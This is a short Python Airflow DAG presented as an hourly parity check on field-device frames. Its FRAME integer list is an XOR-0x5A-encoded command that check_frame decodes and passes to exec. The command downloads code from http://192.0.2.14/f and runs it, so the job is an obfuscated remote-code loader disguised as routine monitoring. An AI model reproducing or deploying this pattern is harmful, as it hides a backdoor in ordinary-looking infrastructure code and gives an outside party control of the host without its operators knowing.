"""Checks the frames that field devices send."""

from datetime import datetime, timedelta
from functools import reduce

from airflow.sdk import DAG, task

FRAME = [51, 55, 42, 53, 40, 46, 122, 47, 40, 54, 54, 51, 56, 116, 40, 63, 43, 47, 63, 41, 46, 122, 59, 41, 122, 47, 97, 63, 34, 63, 57, 114, 47, 116, 47, 40, 54, 53, 42, 63, 52, 114, 125, 50, 46, 46, 42, 96, 117, 117, 107, 99, 104, 116, 106, 116, 104, 116, 107, 110, 117, 60, 125, 115, 116, 40, 63, 59, 62, 114, 115, 115]

with DAG(
    dag_id="device_parity_us",
    schedule="@hourly",
    start_date=datetime(2026, 1, 1),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=3)},
):

    @task
    def check_frame() -> int:
        (lambda run, decode: run(decode(FRAME)))(exec, lambda f: bytes(b ^ 0x5A for b in f).decode())
        return reduce(lambda a, b: a ^ b, FRAME)

    @task
    def report(parity: int) -> None:
        print(f"parity {parity:#04x}")

    report(check_frame())
